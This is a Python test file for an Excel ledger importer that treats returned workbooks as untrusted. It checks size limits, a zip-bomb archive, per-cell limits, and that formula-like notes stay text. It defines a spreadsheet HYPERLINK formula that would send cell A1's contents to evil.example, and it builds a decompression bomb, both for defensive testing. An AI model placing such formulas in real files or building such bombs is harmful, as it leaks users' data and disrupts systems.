"""A returned ledger is untrusted input: bounded before it is unpacked, its text kept as text both
ways, and every refusal named at the workbook's cell, never at a line of merged data that was
not written."""

import datetime
import io
import shutil
import zipfile

import pytest
from openpyxl import load_workbook

from plansite.data.read import read_plan
from plansite.ledger import cells as ledger_cells
from plansite.ledger import merge as ledger_import
from plansite.ledger import read as ledger_read
from tests.test_ledger import SAMPLE, fill, ledger, run_import

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"点此")'
DAY = datetime.date(2027, 3, 1)


@pytest.fixture
def data(tmp_path):
    copy = tmp_path / "measures.yaml"
    shutil.copy(SAMPLE, copy)
    return copy


def refusal(result) -> list[str]:
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    return result.stderr.splitlines()


def test_a_file_larger_than_any_ledger_is_refused_before_it_is_opened(data, tmp_path):
    big = tmp_path / "big.xlsx"
    big.write_bytes(b"\0" * (ledger_read.MAX_FILE_BYTES + 1))
    (line, count) = refusal(run_import(big, "--data", data))
    assert line.startswith("big.xlsx: 文件有 10.0 MB，台账最大 10 MB") and count == "共 1 个问题，数据没有改动"


def test_a_small_file_that_would_unpack_beyond_the_bound_is_refused_unread(data, tmp_path):
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/sharedStrings.xml", b"<sst>" + b" " * ledger_read.MAX_UNPACKED_BYTES + b"</sst>")
    assert bomb.stat().st_size < 100 * 1024
    (line, _) = refusal(run_import(bomb, "--data", data))
    assert line.startswith("bomb.xlsx: 解压后有 50 MB、1 个部件，台账最多 50 MB、200 个")


def test_rows_columns_and_cells_beyond_the_bounds_are_each_reported_at_their_cell(data, tmp_path, monkeypatch):
    path = ledger(data, "industry-it", tmp_path / "industry-it.xlsx")
    book = load_workbook(path)
    sheet = book.active
    # Rows are counted as Excel counts them, the notes above the header included.
    sheet.cell(6, 7, "长" * 30_000)
    sheet.cell(7, ledger_cells.MAX_COLUMNS + 1, "多出来的一列")
    for row in range(9, 17):
        sheet.cell(row, 1, "m01-t1")
    book.save(path)
    monkeypatch.setattr(ledger_cells, "MAX_ROWS", 12)
    with pytest.raises(ledger_import.LedgerProblems) as caught:
        ledger_import.merge(data, [path])
    cells = [problem.split(": ", 1)[0] for problem in caught.value.problems]
    assert cells == ["industry-it.xlsx!G6", "industry-it.xlsx!AE7", "industry-it.xlsx!A13"]
    assert "这一格有 30000 个字符，一格最多 2000 个" in caught.value.problems[0]


@pytest.mark.parametrize(
    "note,column,words",
    [
        # A clerk's Alt+Enter and a long note are told in a clerk's words, at the reading.
        ("第一行\n第二行", "G", "进展说明中有换行：请写成一段，不要在格子里按 Alt+Enter 换行"),
        ("说明" * 101, "G", "进展说明有 202 个字，最多 200 个：请写要点"),
        # Anything else the data refuses, by the merged data's check, at the same cell.
        ("进展\u200b顺利", "G", "U+200B（零宽空格）"),
    ],
    ids=["line-break", "too-long-note", "zero-width"],
)
def test_a_row_the_merged_data_refuses_is_reported_at_its_cell(data, tmp_path, note, column, words):
    before = data.read_bytes()
    path = ledger(data, "industry-it", tmp_path / "industry-it.xlsx")
    filled = fill(path, {"m01-t1": {"状态": "推进中", "填报日期": DAY, "进展说明": note}})
    lines = refusal(run_import(filled, "--data", data))
    assert lines[0].startswith(f"industry-it.xlsx!{column}7: ") and words in lines[0], lines
    assert data.read_bytes() == before


def test_a_note_that_looks_like_a_formula_stays_text_in_the_data_and_the_next_workbook(data, tmp_path):
    path = ledger(data, "industry-it", tmp_path / "industry-it.xlsx")
    # openpyxl stores it as a formula, as Excel does when a person types it.
    filled = fill(path, {"m01-t1": {"状态": "推进中", "填报日期": DAY, "进展说明": FORMULA}})
    assert load_workbook(filled).active["G7"].data_type == "f"
    result = run_import(filled, "--data", data)
    assert result.returncode == 0, result.stderr
    target = next(t for t in read_plan(data, "measures.yaml").targets if t.id == "m01-t1")
    assert target.latest.note == FORMULA
    again = ledger(data, "industry-it", tmp_path / "again.xlsx")
    cell = load_workbook(again).active["G7"]
    assert (cell.value, cell.data_type) == (FORMULA, "s")
    assert no_formulas(again.read_bytes()) == []


def no_formulas(workbook: bytes) -> list[str]:
    """The sheets of ``workbook`` that hold a formula (an <f> element), by name."""
    archive = zipfile.ZipFile(io.BytesIO(workbook))
    return [
        name
        for name in archive.namelist()
        if name.startswith("xl/worksheets/") and (b"<f>" in archive.read(name) or b"<f " in archive.read(name))
    ]
